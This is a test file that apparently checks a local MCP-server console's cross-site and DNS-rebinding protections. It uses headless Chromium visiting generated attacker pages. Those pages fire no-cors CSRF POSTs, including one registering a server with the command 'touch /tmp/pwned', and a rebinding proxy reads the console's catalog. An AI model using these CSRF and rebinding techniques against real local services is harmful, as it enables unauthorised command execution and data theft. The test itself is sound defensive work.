/**
 * The cross-site and DNS-rebinding guard (runtime-contract §25.1) against a real browser: headless
 * Chromium (/usr/bin/chromium, Debian's `chromium` package) visits an attacker's pages while a console
 * runs in open mode on 127.0.0.1.
 *
 * - Cross-site: a page on another origin (another port of 127.0.0.1) fires the requests a page may
 *   send without a preflight — a POST whose body has no content type (a Blob), a text/plain POST, a
 *   bodiless POST that would start a process. The browser sends them with its Origin; the console
 *   refuses them (403) and stores and starts nothing.
 * - Rebinding: a page served under a name the attacker controls (`rebind.test`, resolved to
 *   127.0.0.1 by Chromium's host resolver rules) whose later requests on the same name and port reach
 *   the console — what a DNS rebinding achieves — so they are same-origin and the page could read the
 *   answers. The console refuses them by their Host (403 `Host not allowed`), reads included.
 *
 * Each attack is first shown to work against a console configured to let it through (its origin in
 * the CORS list, its name in CONSOLE_MCP_ALLOWED_HOSTS): the browser really sends these requests, and
 * without the guard they would store a server and read the catalog. Every browser is ended with its
 * process group.
 */
import { ChildProcess, spawn } from "node:child_process";
import fs from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { CONFIGURABLE_SERVER, eventually, liveMembers } from "../helpers/process-groups";
import { request, startTestServer, tempDir, TestServer } from "../helpers/server";

const CHROMIUM = "/usr/bin/chromium";

interface Report {
  [name: string]: { status: number | string; body?: string };
}

/** A page that fires `attacks` (name → fetch arguments) and posts what it saw to `reportUrl`. */
function attackPage(attacks: Record<string, { url: string; init: string }>, reportUrl: string): string {
  const calls = Object.entries(attacks)
    .map(
      ([name, a]) => `
      try {
        const r = await fetch(${JSON.stringify(a.url)}, ${a.init});
        results[${JSON.stringify(name)}] = { status: r.type === "opaque" ? "opaque" : r.status, body: r.type === "opaque" ? undefined : await r.text() };
      } catch (e) {
        results[${JSON.stringify(name)}] = { status: "failed: " + e };
      }`,
    )
    .join("\n");
  return `<!doctype html><html><body><script>
    (async () => {
      const results = {};
      ${calls}
      await fetch(${JSON.stringify(reportUrl)}, { method: "POST", mode: "no-cors", body: JSON.stringify(results) });
    })();
  </script></body></html>`;
}

/** The attacker: serves pages and takes reports; optionally routes every other path to the console (the rebound name). */
class Attacker {
  readonly reports: Report[] = [];
  private readonly pages = new Map<string, string>();
  private server!: http.Server;
  port = 0;

  constructor(private readonly proxyTo: number | null) {}

  async start(): Promise<void> {
    this.server = http.createServer((req, res) => {
      const page = this.pages.get(req.url ?? "");
      if (req.method === "GET" && page !== undefined) {
        res.writeHead(200, { "content-type": "text/html; charset=utf-8", connection: "close" });
        res.end(page);
        return;
      }
      if (req.method === "POST" && req.url === "/report") {
        let text = "";
        req.on("data", (d: Buffer) => (text += d.toString()));
        req.on("end", () => {
          this.reports.push(JSON.parse(text) as Report);
          res.writeHead(204, { "access-control-allow-origin": "*" });
          res.end();
        });
        return;
      }
      // The browser's own request for an icon is the attacker's, not part of the attack.
      if (this.proxyTo === null || req.url === "/favicon.ico") {
        res.writeHead(404);
        res.end();
        return;
      }
      // After the rebinding: the same name and port now reach the console, headers (Host) untouched.
      const upstream = http.request(
        { host: "127.0.0.1", port: this.proxyTo, method: req.method, path: req.url, headers: req.headers, setHost: false },
        (answer) => {
          res.writeHead(answer.statusCode ?? 502, answer.headers);
          answer.pipe(res);
        },
      );
      upstream.on("error", () => res.destroy());
      req.pipe(upstream);
    });
    await new Promise<void>((resolve) => this.server.listen(0, "127.0.0.1", resolve));
    this.port = (this.server.address() as AddressInfo).port;
  }

  serve(pathname: string, html: string): void {
    this.pages.set(pathname, html);
  }

  async stop(): Promise<void> {
    this.server.closeAllConnections();
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }
}

/**
 * Live processes whose command line names `profile` (the browser's own user-data directory): its
 * group, and helpers that leave it (Chromium's crash handler starts a session of its own).
 */
function browserProcesses(profile: string): number[] {
  const pids: number[] = [];
  for (const name of fs.readdirSync("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const stat = fs.readFileSync(`/proc/${name}/stat`, "utf8");
      if (stat.slice(stat.lastIndexOf(")") + 2).startsWith("Z")) continue;
      if (fs.readFileSync(`/proc/${name}/cmdline`, "utf8").includes(profile)) pids.push(Number(name));
    } catch {
      // gone meanwhile
    }
  }
  return pids;
}

/** Opens `url` in a headless Chromium (own process group) until `done()`; then ends it, every helper included. */
async function visit(url: string, profile: string, done: () => boolean): Promise<void> {
  if (!fs.existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: install Debian's chromium package (apt-get install -y chromium)`);
  const browser: ChildProcess = spawn(
    CHROMIUM,
    [
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-background-networking",
      "--no-first-run",
      "--no-default-browser-check",
      "--disable-features=HttpsUpgrades,HttpsFirstBalancedModeAutoEnable",
      `--user-data-dir=${profile}`,
      "--host-resolver-rules=MAP rebind.test 127.0.0.1",
      url,
    ],
    { detached: true, stdio: "ignore" },
  );
  const pgid = browser.pid as number;
  const exited = new Promise<void>((resolve) => browser.once("exit", () => resolve()));
  try {
    await eventually(done, 60_000, `the page at ${url} to report`);
  } finally {
    try {
      process.kill(-pgid, "SIGKILL");
    } catch {
      // already gone
    }
    await exited;
    await eventually(() => liveMembers(pgid).length === 0, 10_000, "the browser's process group to be gone");
    for (const pid of browserProcesses(profile)) {
      try {
        process.kill(pid, "SIGKILL");
      } catch {
        // gone meanwhile
      }
    }
    await eventually(() => browserProcesses(profile).length === 0, 10_000, "every process of the browser to be gone");
  }
}

describe("a headless browser against a console in open mode", () => {
  let dir: string;
  const consoles: TestServer[] = [];
  const attackers: Attacker[] = [];

  function manifest(): string {
    const file = path.join(dir, "servers.json");
    fs.writeFileSync(
      file,
      JSON.stringify({ providers: [{ id: "victim", name: "Victim", transport: "stdio", command: process.execPath, args: [CONFIGURABLE_SERVER] }] }),
    );
    return file;
  }

  async function console_(env: Record<string, string> = {}): Promise<TestServer> {
    const server = await startTestServer({ CONSOLE_MCP_SERVERS_PATH: manifest(), CONSOLE_MCP_HEALTH_INTERVAL_S: "0", ...env });
    consoles.push(server);
    return server;
  }

  async function attacker(proxyTo: number | null): Promise<Attacker> {
    const a = new Attacker(proxyTo);
    await a.start();
    attackers.push(a);
    return a;
  }

  beforeAll(() => {
    dir = tempDir("console-mcp-browser-");
  });
  afterAll(async () => {
    for (const a of attackers) await a.stop();
    for (const c of consoles) await c.stop();
    fs.rmSync(dir, { recursive: true, force: true });
  }, 60_000);

  const crossSiteAttacks = (consolePort: number) => {
    const api = `http://127.0.0.1:${consolePort}/api/v1`;
    return {
      blob: {
        url: `${api}/servers`,
        init: `{ method: "POST", mode: "no-cors", body: new Blob([JSON.stringify({ id: "pwned-blob", name: "P", command: "touch /tmp/pwned" })]) }`,
      },
      text: {
        url: `${api}/servers`,
        init: `{ method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: JSON.stringify({ id: "pwned-text", name: "P", command: "x" }) }`,
      },
      start: { url: `${api}/servers/victim/process/start`, init: `{ method: "POST", mode: "no-cors" }` },
    };
  };

  it("cross-site: without the guard (the page's origin allowed) the page stores a server; with it, nothing is stored or started", async () => {
    // The control: the attacker's origin in the CORS list, so the Origin check lets it through.
    const evil = await attacker(null);
    const open = await console_({ CONSOLE_MCP_CORS_ORIGINS: `http://127.0.0.1:${evil.port}`, SERVICES: "api,providers,access" });
    evil.serve("/control.html", attackPage(crossSiteAttacks(Number(new URL(open.baseUrl).port)), "/report"));
    await visit(`http://127.0.0.1:${evil.port}/control.html`, path.join(dir, "profile-1"), () => evil.reports.length === 1);
    const stored = (await request(`${open.baseUrl}/servers`)).body.servers.map((s: any) => s.id);
    expect(stored).toContain("pwned-blob");

    const guarded = await console_();
    const port = Number(new URL(guarded.baseUrl).port);
    evil.serve("/csrf.html", attackPage(crossSiteAttacks(port), "/report"));
    await visit(`http://127.0.0.1:${evil.port}/csrf.html`, path.join(dir, "profile-2"), () => evil.reports.length === 2);
    expect(evil.reports[1]).toEqual({ blob: { status: "opaque" }, text: { status: "opaque" }, start: { status: "opaque" } });
    expect((await request(`${guarded.baseUrl}/servers`)).body.servers.map((s: any) => s.id)).toEqual(["victim"]);
    expect((await request(`${guarded.baseUrl}/servers/victim/process`)).body.process).toMatchObject({ status: "stopped", pid: null });
    // The requests did reach the console, and were refused for their Origin.
    const denied = (await request(`${guarded.baseUrl}/audit/logs?limit=100`)).body.items.filter(
      (e: any) => e.details.origin === `http://127.0.0.1:${evil.port}`,
    );
    expect(denied.map((e: any) => [e.action, e.outcome, e.status]).sort()).toEqual([
      ["process.start", "denied", 403],
      ["server.create", "denied", 403],
      ["server.create", "denied", 403],
    ]);
  }, 180_000);

  it("rebinding: without the guard (the name allowed) the page reads the catalog; with it, every request is refused by its Host", async () => {
    const rebindAttacks = {
      read: { url: "/api/v1/servers", init: "{}" },
      create: {
        url: "/api/v1/servers",
        init: `{ method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ id: "pwned-rebind", name: "P", command: "x" }) }`,
      },
      start: { url: "/api/v1/servers/victim/process/start", init: `{ method: "POST" }` },
    };
    const reports = await attacker(null);
    const reportUrl = `http://127.0.0.1:${reports.port}/report`;

    const open = await console_({ CONSOLE_MCP_ALLOWED_HOSTS: "rebind.test", SERVICES: "api,providers,access" });
    const controlName = await attacker(Number(new URL(open.baseUrl).port));
    controlName.serve("/rebind.html", attackPage({ read: rebindAttacks.read }, reportUrl));
    await visit(`http://rebind.test:${controlName.port}/rebind.html`, path.join(dir, "profile-3"), () => reports.reports.length === 1);
    expect(reports.reports[0].read.status).toBe(200);
    expect(JSON.parse(reports.reports[0].read.body as string).servers.map((s: any) => s.id)).toEqual(["victim"]);

    const guarded = await console_();
    const name = await attacker(Number(new URL(guarded.baseUrl).port));
    name.serve("/rebind.html", attackPage(rebindAttacks, reportUrl));
    await visit(`http://rebind.test:${name.port}/rebind.html`, path.join(dir, "profile-4"), () => reports.reports.length === 2);
    const refused = { status: 403, body: JSON.stringify({ detail: "Host not allowed" }) };
    expect(reports.reports[1]).toEqual({ read: refused, create: refused, start: refused });
    expect((await request(`${guarded.baseUrl}/servers`)).body.servers.map((s: any) => s.id)).toEqual(["victim"]);
    expect((await request(`${guarded.baseUrl}/servers/victim/process`)).body.process.status).toBe("stopped");
    const denied = (await request(`${guarded.baseUrl}/audit/logs?limit=100`)).body.items.filter(
      (e: any) => e.details.host === `rebind.test:${name.port}`,
    );
    expect(denied.map((e: any) => e.action).sort()).toEqual(["process.start", "providers.servers", "server.create"]);
  }, 180_000);
});
